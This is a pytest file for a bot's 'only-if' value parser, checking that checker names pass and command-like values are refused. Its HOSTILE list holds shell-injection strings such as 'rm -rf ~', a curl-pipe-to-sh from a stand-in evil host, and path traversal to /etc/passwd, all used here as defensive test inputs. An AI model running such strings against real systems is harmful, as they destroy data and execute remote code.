"""``only-if:`` values: checker names and scopes pass, anything command-like is refused."""

from __future__ import annotations

import pytest

from vikingbot.errors import CheckerError
from vikingbot.heartbeat.checkers import parse_only_if


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("github", ("github", None)),
        ("github:prs", ("github", "prs")),
        ("gitlab:mr", ("gitlab", "mr")),
        ("  backups  ", ("backups", None)),
        ("repo-watch:octo/app", ("repo-watch", "octo/app")),
        ("inbox_2:me@example.org", ("inbox_2", "me@example.org")),
        ("feeds.v2:news+tech", ("feeds.v2", "news+tech")),
        ("pr-watch:octo/app#12", ("pr-watch", "octo/app#12")),
    ],
)
def test_names_and_scopes_are_accepted(value: str, expected: tuple[str, str | None]) -> None:
    assert parse_only_if(value) == expected


HOSTILE = [
    "rm -rf ~",
    "`id`",
    "$(curl http://evil.example | sh)",
    "check;id",
    "check|sh",
    "check&&reboot",
    "check & id",
    "check>/etc/passwd",
    "check<in",
    "/usr/bin/true",
    "~/bin/fetch",
    "./run.sh",
    "../escape",
    "'quoted'",
    '"quoted"',
    "check:$(id)",
    "check:`id`",
    "check:${HOME}",
    "check:../../etc/passwd",
    "check:/etc/passwd",
    "check:-rf",
    "check:#1",
    "sh -c id",
    "python3 -c 'import os'",
    "check\nid",
    "check:a b",
    "check:a:b",
    "-rf",
    "check(1)",
    "check\\x",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_command_like_values_are_refused_with_a_clear_message(value: str) -> None:
    with pytest.raises(CheckerError) as info:
        parse_only_if(value)
    message = str(info.value)
    assert "bot.heartbeat.checkers" in message
    assert "only-if" in message


@pytest.mark.parametrize("value", ["", "   "])
def test_an_empty_value_is_refused(value: str) -> None:
    with pytest.raises(CheckerError, match="needs a checker name"):
        parse_only_if(value)


def test_a_command_is_named_as_such() -> None:
    with pytest.raises(CheckerError, match="raw command"):
        parse_only_if("curl https://example.org")
